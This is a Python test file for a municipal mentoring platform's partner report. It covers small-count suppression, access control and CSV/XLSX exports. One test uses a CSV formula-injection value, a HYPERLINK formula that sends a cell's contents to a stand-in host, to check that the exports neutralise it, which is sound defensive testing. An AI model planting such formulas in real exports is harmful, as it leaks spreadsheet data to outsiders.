"""The partner's aggregate and the platform report (issue 14), on SQLite and PostgreSQL.

Two municipalities each hold the hand-built tenant of :mod:`tests.report_world` and grant the
partner its programme ``btb`` (not ``vp``): every row is report_world's ``BTB`` figures, the
total their sum, and the suppression below is worked out by hand:

* each row: 6 people and 5 matches are shown; every other count is 1-4 ("<5");
* the total: 12 people, 6 citizens, 6 mentors, 6 running, 10 matches, 6 started and 6 finished
  holds are shown (two "<5" cells adding up to 6 can be 2+4, 3+3 or 4+2); totals under 5 are
  "<5"; meetings held (4 + 4) and mentors trained (4 + 4) total 8, which pins both cells to 4,
  so the total is hidden ("x").
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import re

import httpx
import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select

from core.audit.models import AuditEvent
from core.audit.service import notes_written_to
from core.clock import at_noon
from core.context import context_for
from core.db.tenant_scope import tenant_scope
from core.errors import Invalid
from core.plugin_api import create_plugin_manager
from core.reports.partner import COUNTS, filtered_total, partner_aggregate
from core.reports.suppression import HIDDEN, SMALL
from core.tenancy.models import (
    PartnershipScope,
    Programme,
    ProgrammePartnership,
    Tenant,
    TenantKind,
)
from tests.live import browser_sign_in
from tests.report_world import BTB, END, START, TODAY, build

ROW = {
    **dict.fromkeys(COUNTS, SMALL),
    "people_in_forloeb": 6,
    "matches": 5,
}
TOTAL_ROW = {
    **dict.fromkeys(COUNTS, SMALL),
    "people_in_forloeb": 12,
    "citizens_in_forloeb": 6,
    "mentors_in_forloeb": 6,
    "matches": 10,
    "forloeb_started": 6,
    "courses_finished": 6,
    "meetings_held": HIDDEN,
    "mentors_trained": HIDDEN,
}


@pytest.fixture
def today(clock):
    clock.set(TODAY)
    return clock


async def _grant(sessionmaker, owner: Tenant, partner: Tenant, slug: str, scope="aggregate"):
    with tenant_scope(owner.id):
        async with sessionmaker() as session, session.begin():
            programme = await session.scalar(select(Programme).where(Programme.slug == slug))
            assert programme is not None
            grant = ProgrammePartnership(
                owner_tenant_id=owner.id,
                programme_id=programme.id,
                partner_tenant_id=partner.id,
                scope=PartnershipScope(scope),
                granted_by="t",
            )
            session.add(grant)
    return grant


async def _aggregate(sessionmaker, partner: Tenant, **filters):
    with tenant_scope(partner.id):
        async with sessionmaker() as session:
            async with notes_written_to(session, actor="t", tenant_slug=partner.slug):
                ctx = context_for(session, partner, create_plugin_manager(), "t")
                found = await partner_aggregate(
                    ctx, start=START.isoformat(), end=END.isoformat(), **filters
                )
            await session.commit()
            return found


@pytest.fixture
async def world(sessionmaker, tenants, today):
    for municipality in (tenants.a, tenants.b):
        await build(sessionmaker, municipality)
        await _grant(sessionmaker, municipality, tenants.partner, "btb")
    return tenants


async def test_the_partner_sees_every_granted_programme_suppressed_and_in_total(
    sessionmaker, world
):
    found = await _aggregate(sessionmaker, world.partner)
    rows = [(r.municipality, r.programme, r.counts) for r in found.programmes]
    assert rows == [
        (world.a.slug, "btb", ROW),
        (world.b.slug, "btb", ROW),
    ]
    assert found.total.counts == TOTAL_ROW
    # Derived figures: the median wait over 5 matches is shown; the afbud rate is not (its
    # counts are hidden); the total has no median (medians do not add up).
    assert [r.median_days_ready_to_matched for r in found.programmes] == [
        BTB["median_days_ready_to_matched"]
    ] * 2
    assert [r.cancellation_rate for r in (*found.programmes, found.total)] == [None] * 3
    assert found.total.median_days_ready_to_matched is None
    assert (found.period.start, found.period.end) == (START, END)
    # Never a person-level field: the rows hold slugs, names of the organisation and the
    # programme, counts and derived figures only.
    assert {f.name for f in dataclasses.fields(found.programmes[0])} == {
        "municipality",
        "municipality_name",
        "programme",
        "programme_name",
        "counts",
        "median_days_ready_to_matched",
        "cancellation_rate",
    }


async def test_filters_pick_a_municipality_and_refuse_what_is_not_granted(sessionmaker, world):
    found = await _aggregate(sessionmaker, world.partner, municipality=world.a.slug)
    assert [r.municipality for r in found.programmes] == [world.a.slug]
    # One row: its total is the row, suppressed the same way.
    assert found.programmes[0].counts == ROW
    assert found.total.counts == ROW
    with pytest.raises(Invalid) as refused:
        await _aggregate(sessionmaker, world.partner, programme="vp")
    assert refused.value.errors == {
        "programme": "Vælg et tilbud, som organisationen har fået adgang til."
    }


async def test_a_filter_shows_the_whole_tables_cells_and_a_total_worked_out_from_them(
    sessionmaker, world
):
    """The whole granted table is suppressed once and a filter picks its rows: a filtered view
    shows exactly the unfiltered cells, so putting the two side by side tells nothing more
    (it used to suppress each filtered table on its own, and a difference gave a "<5" away)."""
    await _grant(sessionmaker, world.a, world.partner, "vp")
    whole = await _aggregate(sessionmaker, world.partner)
    assert [(r.municipality, r.programme) for r in whole.programmes] == [
        (world.a.slug, "btb"),
        (world.a.slug, "vp"),
        (world.b.slug, "btb"),
    ]
    cells = {(r.municipality, r.programme): r.counts for r in whole.programmes}
    btb = await _aggregate(sessionmaker, world.partner, programme="btb")
    assert [r.counts for r in btb.programmes] == [
        cells[(world.a.slug, "btb")],
        cells[(world.b.slug, "btb")],
    ]
    assert btb.total.counts == {
        c: filtered_total([cells[(world.a.slug, "btb")][c], cells[(world.b.slug, "btb")][c]])
        for c in COUNTS
    }
    for filters, key in (
        ({"programme": "vp"}, (world.a.slug, "vp")),
        ({"municipality": world.b.slug}, (world.b.slug, "btb")),
        ({"municipality": world.a.slug, "programme": "btb"}, (world.a.slug, "btb")),
    ):
        one = await _aggregate(sessionmaker, world.partner, **filters)
        assert [r.counts for r in one.programmes] == [cells[key]], filters
        assert one.total.counts == cells[key], filters
    # Every granted programme is read (and audited) whatever the filter; the outcome rows are
    # the unfiltered ones too.
    assert [o for o in btb.outcomes if o.programme is not None] == [
        o for o in whole.outcomes if o.programme == "btb"
    ]


async def test_a_partner_without_a_grant_sees_nothing(sessionmaker, world):
    async with sessionmaker() as session, session.begin():
        other = Tenant(
            slug=f"{world.partner.slug}-2",
            name="Anden partner",
            kind=TenantKind.PARTNER,
            plugins={},
        )
        session.add(other)
    found = await _aggregate(sessionmaker, other)
    assert (found.programmes, found.outcomes, found.choices) == ([], [], [])
    assert found.total.counts == dict.fromkeys(COUNTS, 0)
    # A municipality calling it has received no grants either.
    mine = await _aggregate(sessionmaker, world.a)
    assert (mine.programmes, mine.total.counts) == ([], dict.fromkeys(COUNTS, 0))


async def test_a_revoked_grant_is_gone_from_the_aggregate(sessionmaker, world):
    async with sessionmaker() as session, session.begin():
        grant = await session.scalar(
            select(ProgrammePartnership).where(
                ProgrammePartnership.owner_tenant_id == world.b.id,
                ProgrammePartnership.partner_tenant_id == world.partner.id,
            )
        )
        assert grant is not None
        grant.revoked_at = at_noon(TODAY)
    found = await _aggregate(sessionmaker, world.partner)
    assert [r.municipality for r in found.programmes] == [world.a.slug]


# -- through HTTP: the API, the page, the exports, the platform report --------------------------

PERIOD = {"from": START.isoformat(), "to": END.isoformat()}


def _client(live, name: str, roles, tenants) -> httpx.AsyncClient:
    live.add_user(name, roles, tenants)
    return httpx.AsyncClient(base_url=live.url)


async def _bearer(live, client: httpx.AsyncClient, name: str) -> httpx.AsyncClient:
    client.headers["Authorization"] = f"Bearer {await live.access_token(name)}"
    return client


async def test_api_page_csv_and_xlsx_show_the_same_suppressed_figures(live, sessionmaker, world):
    partner = world.partner
    name = f"pa-{partner.slug}"
    async with _client(live, name, ("partner_staff",), (partner.slug,)) as api:
        await _bearer(live, api, name)
        response = await api.get(f"/api/v1/t/{partner.slug}/reports/partner", params=PERIOD)
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["period"] == PERIOD
        assert body["suppression"] == {"threshold": 5, "small": "<5", "hidden": "x"}
        assert [
            (r["municipality"], r["programme"], r["counts"], r["median_days_ready_to_matched"])
            for r in body["programmes"]
        ] == [(world.a.slug, "btb", ROW, 10.0), (world.b.slug, "btb", ROW, 10.0)]
        assert body["total"]["counts"] == TOTAL_ROW
        assert body["total"]["municipality"] is None and body["outcomes"] == []
        exported = await api.get(
            f"/api/v1/t/{partner.slug}/reports/partner/export",
            params={**PERIOD, "format": "csv", "table": "partner"},
        )
        assert exported.status_code == 200
        # one charset (the partner's export named it twice before the exports shared a helper)
        assert exported.headers["content-type"] == "text/csv; charset=utf-8"
        lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
        assert lines[1] == [
            "Tal",
            "Kommune A: Borger til Borger",
            "Kommune B: Borger til Borger",
            "I alt",
        ]
        csv_rows = {row[0]: row[1:] for row in lines[2:]}
        assert csv_rows["Borgere og mentorer i forløb"] == ["6", "6", "12"]
        assert csv_rows["Møder holdt"] == ["<5", "<5", "x"]
        xlsx = await api.get(
            f"/api/v1/t/{partner.slug}/reports/partner/export", params={**PERIOD, "format": "xlsx"}
        )
        book = load_workbook(io.BytesIO(xlsx.content))
        sheet = list(book[book.sheetnames[0]].iter_rows(values_only=True))
        assert {r[0]: list(r[1:]) for r in sheet[2:]}["Møder holdt"] == ["<5", "<5", "x"]
        bad = await api.get(
            f"/api/v1/t/{partner.slug}/reports/partner", params={"from": "2026-13-01"}
        )
        assert (bad.status_code, bad.json()["errors"]) == (
            400,
            {"from": "Skriv en dato (ÅÅÅÅ-MM-DD)."},
        )
    page_user = f"pp-{partner.slug}"
    async with _client(live, page_user, ("partner_staff",), (partner.slug,)) as browser:
        await browser_sign_in(browser, live, page_user)
        page = await browser.get(
            f"/t/{partner.slug}/rapporter/partner/",
            params={"fra": START.isoformat(), "til": END.isoformat()},
        )
        assert page.status_code == 200
        assert (
            '<tr data-key="meetings_held"><th scope="row">Møder holdt</th>'
            '<td class="numeric">&lt;5</td><td class="numeric">&lt;5</td>'
            '<td class="numeric">x</td></tr>'
        ) in page.text
        assert '<span class="report-number" id="partner-people">12</span>' in page.text
        assert "Rapport C1" not in page.text  # report_world's people never appear
        front = await browser.get(f"/t/{partner.slug}/")
        assert f'id="partner-figures" href="/t/{partner.slug}/rapporter/partner/"' in front.text
        # The front page shows the aggregate itself: the report's total column for its default
        # period (the year up to today), suppressed exactly as the report.
        with tenant_scope(partner.id):
            async with (
                sessionmaker() as session,
                notes_written_to(session, actor="t", tenant_slug=partner.slug),
            ):
                ctx = context_for(session, partner, create_plugin_manager(), "t")
                report = await partner_aggregate(ctx)
        people = report.total.counts["people_in_forloeb"]
        assert f'id="partner-front-people">{people}</span>' in front.text
        assert '<span class="report-number" id="partner-front-programmes">2</span>' in front.text
        summary = re.findall(
            r'<tr data-key="(\w+)"><th scope="row">[^<]*</th><td class="numeric">([^<]*)</td></tr>',
            front.text.split('id="table-partner-front"')[1].split("</table>")[0],
        )
        assert dict(summary) == {
            **{k: html.escape(str(v)) for k, v in report.total.counts.items()},
            "median_days_ready_to_matched": "–",
            "cancellation_percent": "33,3",  # 6 afbud of 18 meetings, both counts shown
        }
        assert (
            report.total.counts["meetings_held"],
            report.total.counts["meetings_cancelled"],
        ) == (
            12,
            6,
        )
        assert "Rapport C1" not in front.text


async def test_a_bad_date_and_an_unknown_municipality_are_refused_together(live, world):
    """Every filter at fault at once (the date used to hide the municipality's error), and a
    filter given twice is refused, not silently the last one."""
    partner = world.partner
    name = f"pv-{partner.slug}"
    async with _client(live, name, ("partner_staff",), (partner.slug,)) as api:
        await _bearer(live, api, name)
        url = f"/api/v1/t/{partner.slug}/reports/partner"
        bad = await api.get(url, params={"municipality": "kolding", "from": "2026-02-30"})
        assert (bad.status_code, bad.json()["errors"]) == (
            400,
            {
                "municipality": "Vælg en kommune, som har givet organisationen adgang.",
                "from": "Skriv en dato (ÅÅÅÅ-MM-DD).",
            },
        )
        twice = await api.get(url, params=[("from", "2026-01-01"), ("from", "2026-02-01")])
        assert (twice.status_code, twice.json()["errors"]) == (
            400,
            {"from": "Angiv kun denne værdi én gang i adressen."},
        )
    page_user = f"pvp-{partner.slug}"
    async with _client(live, page_user, ("partner_staff",), (partner.slug,)) as browser:
        await browser_sign_in(browser, live, page_user)
        page = await browser.get(
            f"/t/{partner.slug}/rapporter/partner/",
            params={"kommune": "kolding", "fra": "2026-02-30"},
        )
        assert page.status_code == 400
        assert "Vælg en kommune, som har givet organisationen adgang." in page.text
        assert "Skriv en dato (ÅÅÅÅ-MM-DD)." in page.text
        assert 'href="#f-kommune"' in page.text and 'href="#f-fra"' in page.text
        twice = await browser.get(
            f"/t/{partner.slug}/rapporter/partner/", params=[("fra", "1"), ("fra", "2")]
        )
        assert twice.status_code == 400
        assert "Angiv kun denne værdi én gang i adressen." in twice.text


async def test_who_may_read_the_partner_aggregate(live, sessionmaker, world):
    """A partner without a grant: 200 and empty; a municipality's coordinator: 403 (role); the
    partner's staff through a municipality's URL: 404; anonymous: 401."""
    async with sessionmaker() as session, session.begin():
        other = Tenant(
            slug=f"{world.partner.slug}-x",
            name="Anden partner",
            kind=TenantKind.PARTNER,
            plugins={},
        )
        session.add(other)
    cases = [
        (f"np-{other.slug}", ("partner_staff",), other.slug, other.slug, 200),
        (f"co-{world.a.slug}", ("coordinator",), world.a.slug, world.a.slug, 403),
        (f"ps-{world.partner.slug}", ("partner_staff",), world.partner.slug, world.a.slug, 404),
    ]
    for name, roles, member_of, url_tenant, status in cases:
        async with _client(live, name, roles, (member_of,)) as api:
            await _bearer(live, api, name)
            response = await api.get(f"/api/v1/t/{url_tenant}/reports/partner", params=PERIOD)
            assert response.status_code == status, (name, response.text)
            if status == 200:
                assert response.json()["programmes"] == []
                assert set(response.json()["total"]["counts"].values()) == {0}
    async with httpx.AsyncClient(base_url=live.url) as anonymous:
        response = await anonymous.get(f"/api/v1/t/{world.partner.slug}/reports/partner")
        assert response.status_code == 401


async def test_the_platform_report_counts_every_organisation(live, sessionmaker, world):
    name = "platform-report-admin"
    # The report reads every organisation in the shared test database in its own scope (one
    # statement each): late in a full run that is thousands of tenants, so the reads get time.
    slow = httpx.Timeout(120)
    async with _client(live, name, ("platform_admin",), ()) as api:
        await _bearer(live, api, name)
        response = await api.get("/api/v1/platform/report", params=PERIOD, timeout=slow)
        assert response.status_code == 200, response.text
        rows = {r["tenant"]: r for r in response.json()["tenants"]}
    # report_world: 2 programmes, 11 people, 7 citizens and 5 mentors enrolled (C1 also as a
    # mentor), 4 forløb running at the end of June (F2, F4, F5, F9), 4 started in the period
    # (F2, F3, F5, F9), 5 meetings held and 2 cancelled; one grant given.
    expected = {
        "programmes": 2,
        "people": 11,
        "citizens_enrolled": 7,
        "mentors_enrolled": 5,
        "forloeb_running": 4,
        "forloeb_started": 4,
        "meetings_held": 5,
        "meetings_cancelled": 2,
        "partnerships_given": 1,
        "partnerships_received": 0,
    }
    assert rows[world.a.slug]["counts"] == expected
    assert rows[world.b.slug]["counts"] == expected
    assert rows[world.partner.slug]["counts"] == {
        **dict.fromkeys(expected, 0),
        "partnerships_received": 2,
    }
    assert rows[world.partner.slug]["kind"] == "partner"
    coordinator = f"pr-co-{world.a.slug}"
    async with _client(live, coordinator, ("coordinator",), (world.a.slug,)) as api:
        await _bearer(live, api, coordinator)
        assert (await api.get("/api/v1/platform/report")).status_code == 403
    async with httpx.AsyncClient(base_url=live.url) as anonymous:
        assert (await anonymous.get("/api/v1/platform/report")).status_code == 401
    async with _client(live, f"{name}-web", ("platform_admin",), ()) as browser:
        await browser_sign_in(browser, live, f"{name}-web")
        page = await browser.get(
            "/platform/rapport/", params={"fra": PERIOD["from"], "til": PERIOD["to"]}, timeout=slow
        )
        assert page.status_code == 200
        assert f'<tr data-key="{world.a.slug}"><th scope="row">Kommune A</th>' in page.text


async def test_the_platform_admin_finds_the_platform_report_in_the_header(live, world):
    """The link to /platform/rapport/ is in the header's user box - on the front page without
    an organisation, on an organisation's pages (and in the phone drawer), marked current on
    the report itself - for platform admins only."""
    link = '<a class="function-link" href="/platform/rapport/">Platformsrapport</a>'
    current = (
        '<a class="function-link" href="/platform/rapport/" aria-current="page">'
        "Platformsrapport</a>"
    )
    name = "platform-nav-admin"
    async with _client(live, name, ("platform_admin",), ()) as browser:
        await browser_sign_in(browser, live, name)
        front = await browser.get("/")
        assert front.status_code == 200
        assert front.text.count(link) == 1
        tenant_page = await browser.get(f"/t/{world.a.slug}/")
        assert tenant_page.status_code == 200
        assert tenant_page.text.count(link) == 2  # the header and the phone drawer
        report = await browser.get("/platform/rapport/", timeout=httpx.Timeout(120))
        assert report.status_code == 200
        assert report.text.count(current) == 1 and link not in report.text
    coordinator = f"pn-co-{world.a.slug}"
    async with _client(live, coordinator, ("coordinator",), (world.a.slug,)) as browser:
        await browser_sign_in(browser, live, coordinator)
        for path in ("/", f"/t/{world.a.slug}/"):
            page = await browser.get(path)
            assert page.status_code == 200
            assert "/platform/rapport/" not in page.text


# -- the meeting summary the overview reads (migration 0020) -----------------------------------


async def _summary_and_truth(sessionmaker, tenant) -> tuple[set, set]:
    from sqlalchemy import func

    from core.forloeb.models import Forloeb, Meeting
    from core.reports.models import MeetingDayCount

    with tenant_scope(tenant.id):
        async with sessionmaker() as session:
            summary = {
                (r.programme_id, r.day, bool(r.cancelled), r.meetings, r.minutes)
                for r in await session.scalars(select(MeetingDayCount))
                if r.meetings
            }
            truth = {
                (p, day, bool(c), n, int(m))
                for p, day, c, n, m in (
                    await session.execute(
                        select(
                            Forloeb.programme_id,
                            Meeting.day,
                            Meeting.cancelled,
                            func.count(),
                            func.coalesce(func.sum(Meeting.duration_minutes), 0),
                        )
                        .join(Forloeb, Forloeb.id == Meeting.forloeb_id)
                        .group_by(Forloeb.programme_id, Meeting.day, Meeting.cancelled)
                    )
                ).tuples()
            }
    return summary, truth


async def test_the_meeting_summary_follows_every_change_to_meetings(sessionmaker, tenants, today):
    """Triggers keep meeting_day_count in step: meetings logged, moved, turned into an afbud,
    deleted, and a forløb deleted with its meetings."""
    from sqlalchemy import delete

    from core.forloeb.models import Forloeb, Meeting

    await build(sessionmaker, tenants.a)
    summary, truth = await _summary_and_truth(sessionmaker, tenants.a)
    assert summary == truth and len(truth) == 10
    with tenant_scope(tenants.a.id):
        async with sessionmaker() as session, session.begin():
            meetings = list(await session.scalars(select(Meeting).order_by(Meeting.day)))
            meetings[0].day = meetings[0].day.replace(day=2)
            meetings[1].cancelled = not meetings[1].cancelled
            meetings[1].duration_minutes = 45
            await session.delete(meetings[2])
        summary, truth = await _summary_and_truth(sessionmaker, tenants.a)
        assert summary == truth
        async with sessionmaker() as session, session.begin():
            forloeb_id = meetings[3].forloeb_id
            await session.execute(delete(Meeting).where(Meeting.forloeb_id == forloeb_id))
            await session.execute(delete(Forloeb).where(Forloeb.id == forloeb_id))
    summary, truth = await _summary_and_truth(sessionmaker, tenants.a)
    assert summary == truth
    # Another tenant's summary is its own (row-level security and the ORM guard).
    other, _truth = await _summary_and_truth(sessionmaker, tenants.b)
    assert other == set()


def test_a_questionnaire_mean_over_fewer_than_5_pairs_is_hidden_and_its_n_suppressed():
    """Two programmes' WHO-5 change: 3 pairs ("<5", no means) and 9 pairs (hidden as "x" so
    the 3 cannot be worked out from the total, no means); the total of 12 pairs is shown with
    the means pooled over all 12."""
    import datetime as dt

    from core.outcomes.instruments import registered_instruments
    from core.outcomes.results import Change, InstrumentResult, ProgrammeResult
    from core.reports.partner import _Granted, suppressed_outcomes

    who5 = registered_instruments(create_plugin_manager())["who5"]
    owners = [
        Tenant(slug=s, name=n, kind=TenantKind.MUNICIPALITY)
        for s, n in (("a", "Kommune A"), ("b", "Kommune B"))
    ]
    programme = Programme(slug="btb", name="Borger til Borger")
    day = dt.date(2026, 6, 30)

    def result(n: int, change: float) -> ProgrammeResult:
        return ProgrammeResult(
            "btb",
            "Borger til Borger",
            day,
            day,
            [
                InstrumentResult(
                    who5,
                    "mentee",
                    n,
                    0,
                    0,
                    [Change("total", n, change, None, None, None, 40.0, 40.0 + change)],
                )
            ],
        )

    out = suppressed_outcomes(
        [
            (_Granted(owners[0], programme), result(3, 20.0)),
            (_Granted(owners[1], programme), result(9, 8.0)),
        ]
    )
    assert [(o.municipality, o.n, o.mean_change, o.mean_baseline) for o in out] == [
        ("a", SMALL, None, None),
        ("b", HIDDEN, None, None),
        (None, 12, 11.0, 40.0),  # (3 x 20 + 9 x 8) / 12
    ]


def test_a_name_that_looks_like_a_formula_is_never_one_in_csv_or_xlsx():
    """A municipality named ``=HYPERLINK(...)`` and a programme ``+SUM(...)``: the CSV writes
    them with a ``'`` before (OWASP), the XLSX as string cells, never formulas; numbers (and a
    negative one) stay numbers."""
    import datetime as dt
    import zipfile

    from core.reports.exports import csv_bytes, csv_text, xlsx_bytes
    from core.reports.overview import Figures
    from core.reports.partner import PartnerAggregate, _Granted, suppressed_rows
    from core.reports.partner_api import partner_tables
    from core.reports.period import Period

    evil = '=HYPERLINK("https://example.invalid/?x="&A1,"Klik")'
    granted = _Granted(
        Tenant(slug="evil", name=evil, kind=TenantKind.MUNICIPALITY),
        Programme(slug="sum", name="+SUM(1,2)"),
    )
    rows, total = suppressed_rows([(granted, Figures(citizens_in_forloeb=7, matches=6))])
    period = Period(START, END)
    tables = partner_tables(PartnerAggregate(period, rows, total, [], []))
    text = csv_bytes(tables["partner"], period, "@Partnerskaber").decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert lines[1][1] == f"'{evil}: +SUM(1,2)"
    assert lines[3][1] == "7"  # citizens in forløb: a number, as before
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@a", "\tb", "\rc", "a=b", "<5", "x")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tb",
        "'\rc",
        "a=b",
        "<5",
        "x",
    ]
    body = xlsx_bytes(list(tables.values()), period, "=Partnerskaber", dt.datetime(2026, 7, 1))
    sheet = load_workbook(io.BytesIO(body))[tables["partner"].sheet or "partner"]
    header = sheet[2][1]
    assert (header.value, header.data_type) == (f"{evil}: +SUM(1,2)", "s")
    assert (sheet["B4"].value, sheet["B4"].data_type) == (7, "n")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets")
        )
    assert "<f>" not in xml


async def test_a_programme_the_partner_co_runs_is_left_out_of_the_table(
    sessionmaker, tenants, today
):
    """The reviewer's case: a partner that co-runs A's programme (scope coordinate) reads its
    exact figures in A's own report; in one table with B's programme the total minus A's
    figures would give B's "<5" away (demo: misbrug's completed 2 known, total 6, Peer-to-Peer
    "<5" = 4). So a co-run programme is not in the table: the table and its total are B's
    alone, suppressed as ever, and the co-run programme is named apart."""
    for municipality in (tenants.a, tenants.b):
        await build(sessionmaker, municipality)
    await _grant(sessionmaker, tenants.a, tenants.partner, "btb", scope="coordinate")
    await _grant(sessionmaker, tenants.b, tenants.partner, "btb")
    found = await _aggregate(sessionmaker, tenants.partner)
    assert [(r.municipality, r.counts) for r in found.programmes] == [(tenants.b.slug, ROW)]
    # One row: the total is that row, every small count "<5" (never a number to subtract).
    assert found.total.counts == ROW
    assert found.co_run == [(tenants.a.slug, "Kommune A", "btb", "Borger til Borger")]
    # A filter on the co-run municipality shows no row and names it.
    only_a = await _aggregate(sessionmaker, tenants.partner, municipality=tenants.a.slug)
    assert (only_a.programmes, only_a.co_run) == ([], found.co_run)
    assert set(only_a.total.counts.values()) == {0}
    # The partner's audit names only the programme it read for the table.
    async with sessionmaker() as session:
        read = await session.scalars(
            select(AuditEvent.detail).where(
                AuditEvent.action == "partner_read",
                AuditEvent.tenant_slug == tenants.partner.slug,
            )
        )
        owners = sorted(d["owner"] for d in read)
    assert owners == [tenants.b.slug, tenants.b.slug]
